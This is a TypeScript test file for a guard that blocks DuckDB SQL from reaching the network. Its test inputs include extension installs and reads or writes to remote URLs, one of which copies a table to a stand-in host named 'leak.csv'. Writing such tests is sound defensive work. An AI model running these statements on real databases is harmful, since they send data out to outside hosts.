import { describe, expect, it } from 'vitest';
import { OFFLINE_PREFIX, offlineViolation } from './offline-guard';

describe('offlineViolation', () => {
  it.each([
    ['INSTALL httpfs', 'extensions'],
    ['  load httpfs;', 'extensions'],
    ['FORCE INSTALL httpfs', 'extensions'],
    ['UPDATE EXTENSIONS', 'extensions'],
    ['SELECT 1; LOAD json', 'extensions'],
    ["SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')", 'http'],
    ["SELECT * FROM read_csv_auto(['a.csv', 'https://evil.test/b.csv'])", 'https'],
    ["SELECT * FROM 's3://bucket/key.parquet'", 's3'],
    ['SELECT * FROM "gcs://bucket/x.csv"', 'gcs'],
    ["SELECT * FROM t JOIN 'https://x/y.csv' u USING (id)", 'https'],
    ["ATTACH 'https://x/db.duckdb' AS remote", 'https'],
    ["COPY (SELECT * FROM t) TO 'http://decoy.test/leak.csv'", 'http'],
    ["COPY t TO 's3://b/k' (FORMAT csv)", 's3'],
    ["SELECT * FROM read_text('az://c/x')", 'az'],
    ['SELECT * FROM parquet_scan($$hf://datasets/x$$)', 'hf'],
    ["select * from READ_JSON(E'https://x')", 'https'],
  ])('refuses %s', (sql, what) => {
    const reason = offlineViolation(sql);
    expect(reason).not.toBeNull();
    expect(reason!.startsWith(`${OFFLINE_PREFIX}: `)).toBe(true);
    if (what === 'extensions') expect(reason).toMatch(/extensions/);
    else expect(reason).toContain(`${what}://`);
  });

  it.each([
    'SELECT 1',
    "SELECT * FROM t WHERE content LIKE 'https://%'",
    "SELECT 'http://example.com' AS link",
    "SELECT * FROM t WHERE url IN ('http://a', 'http://b')",
    "SELECT concat('https://', host) FROM t",
    "SELECT * FROM read_csv('memscope/1.csv')",
    "ATTACH ':memory:' AS scratch",
    'SELECT install, load FROM t',
    '-- INSTALL httpfs\nSELECT 1',
    "SELECT 'INSTALL httpfs'",
    'CREATE TABLE loads AS SELECT 1',
  ])('lets %s through', (sql) => {
    expect(offlineViolation(sql)).toBeNull();
  });
});
